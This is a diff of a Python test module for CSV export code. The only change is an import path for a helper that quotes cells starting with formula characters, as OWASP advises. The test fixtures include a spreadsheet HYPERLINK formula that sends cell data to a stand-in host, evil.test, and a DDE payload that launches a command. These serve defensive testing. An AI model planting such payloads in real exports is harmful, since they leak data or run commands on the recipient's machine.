@@ -1,4 +1,4 @@
-"""CSV exports cannot carry a formula into an instructor's spreadsheet (vulhub.exports).
+"""CSV exports cannot carry a formula into an instructor's spreadsheet (vulhub.lib.exports).
 
 A cell starting with =, +, -, @, a tab or a carriage return gets a leading single quote
 (OWASP's advice); anything else is exported as it is.
@@ -15,7 +15,7 @@ from challenges.factories import ProjectFactory
 from scoring import services
 from scoring.factories import SubmissionFactory
 from tenants.factories import StudentFactory
-from vulhub.exports import FormulaSafeExportMixin, neutralise_formula
+from vulhub.lib.exports import FormulaSafeExportMixin, neutralise_formula
 
 HYPERLINK = '=HYPERLINK("https://evil.test/?leak="&A1,"Your grades")'
 DDE = "=cmd|' /C calc'!A0"
